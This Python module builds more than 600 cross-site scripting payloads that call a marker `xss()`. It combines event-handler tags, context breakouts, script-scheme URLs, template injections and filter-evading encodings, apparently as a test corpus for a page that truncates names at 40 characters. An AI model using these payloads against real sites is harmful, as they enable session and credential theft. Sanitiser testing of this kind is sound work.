"""Texts that run `xss()` wherever they are taken for HTML, for an address, for script or for a template: over 600 of them.

Most are short, because the page cuts names at 40 characters.
"""

from __future__ import annotations

import itertools

HANDLERS = [
    "img{0}src=x{0}onerror={1}",
    "svg{0}onload={1}",
    "body{0}onload={1}",
    "style{0}onload={1}",
    "iframe{0}onload={1}",
    "audio{0}src=x{0}onerror={1}",
    "video{0}src=x{0}onerror={1}",
    "input{0}autofocus{0}onfocus={1}",
    "select{0}autofocus{0}onfocus={1}",
    "textarea{0}autofocus{0}onfocus={1}",
    "details{0}open{0}ontoggle={1}",
    "object{0}data=x{0}onerror={1}",
    "marquee{0}onstart={1}",
    "a{0}autofocus{0}href{0}onfocus={1}",
    "p{0}tabindex=1{0}autofocus{0}onfocus={1}",
]
BETWEEN = [" ", "/", "\t", "\n", "\f", " /"]
QUOTED = ["xss()", '"xss()"', "'xss()'", "xss``", "&#120;ss()"]
CORES = ["<img src=x onerror=xss()>", "<svg onload=xss()>", "<script>xss()</script>"]
BREAKS = [
    '"', "'", ">", '">', "'>", "`>", "</p>", "</title>", "</textarea>", "</script>", "</style>", "</template>",
    "</svg>", "</select>", "</option>", "</noscript>", "-->", "--!>", "]]>", "*/", "?>", "\0", "<!--", "<![CDATA[",
]  # fmt: skip
ATTRIBUTES = [
    f"{quote}{between}{handler}={quote}xss()"
    for quote in ('"', "'", "")
    for between in (" ", "/")
    for handler in ("onfocus", "onerror", "onload", "autofocus onfocus")
]
SCHEMES = [
    "javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}", "java\nscript:{}", " javascript:{}", "\x01javascript:{}",
    "javascript&colon;{}", "&#106;avascript:{}", "javascript://%0a{}", "vbscript:{}", "data:text/html,<script>{}</script>",
    "data:text/javascript,{}", "blob:{}", "view-source:javascript:{}",
]  # fmt: skip
ADDRESSES = [form.format("xss()") for form in SCHEMES] + [
    f'<a href="{form.format("xss()")}">x</a>' for form in SCHEMES
]  # fmt: skip
TEMPLATES = [
    "{{constructor.constructor('xss()')()}}", "{{xss()}}", "{%25 xss() %25}", "{% load xss %}", "${xss()}", "#{xss()}",
    "<%= xss() %>", "[[xss()]]", "{{7*7}}", "{{=xss()}}", "@{xss()}", "*{xss()}", "{!xss()!}", "<x v-html=xss()>",
]  # fmt: skip
STRINGS = [
    "';xss();//", '";xss();//', "`;xss();//", "\\';xss();//", "'-xss()-'", '"-xss()-"', "\\u0027;xss()//", "*/xss()/*",
    "\u2028xss()//", "\u2029xss()//", "</script><script>xss()", "');xss();('", "}xss();{", "0;xss()", "\\x27xss()",
]  # fmt: skip
NESTED = [
    '<noscript><p title="</noscript>{}">', "<svg><style>{}", "<math><mtext>{}", "<template>{}</template>",
    "<textarea>{}</textarea>", "<svg><desc>{}", "<svg><foreignObject>{}", "<select><option>{}", "<table><td>{}",
    '<iframe srcdoc="{}">', "<xmp>{}</xmp>", "<plaintext>{}", "<math><mi//xlink:href='data:x,{}'>", "<svg><a>{}",
]  # fmt: skip


def spelled(core: str) -> list[str]:
    """Return the text in encodings that some reader or other undoes."""
    return [
        core.replace("<", "\uff1c").replace(">", "\uff1e"),
        core.replace("<", "&lt;").replace(">", "&gt;"),
        core.replace("<", "&#60;"),
        core.replace("<", "&#x3c;"),
        core.replace("<", "%3C").replace(">", "%3E"),
        core.replace("<", "%253C"),
        core.replace("<", "\\u003c"),
        core.replace("<", "\\x3c"),
        core.replace("<", "\u02c2"),
        core.replace("<", "<\u200b"),
        core.replace("<", "\u202e<"),
        core.replace("<", "+ADw-"),
        core.replace("<", "\xbc"),
        core.replace("s", "\u017f"),
        core.replace(" ", "\xa0"),
        core.replace(" ", "\u3000"),
        core.upper(),
        core.title(),
    ]


def payloads() -> list[str]:
    """Return all of them, each once, always in the same order."""
    made = [
        f"<{handler.format(between, code)}>"
        for handler, between, code in itertools.product(HANDLERS, BETWEEN, QUOTED)
        if between != "/" or "src=x" not in handler
    ]
    made += [broken + core for broken, core in itertools.product(BREAKS, CORES)]
    made += [text for core in CORES for text in spelled(core)]
    made += [form.format(core) for form, core in itertools.product(NESTED, CORES)]
    made += ATTRIBUTES + ADDRESSES + TEMPLATES + STRINGS + CORES
    return list(dict.fromkeys(made))
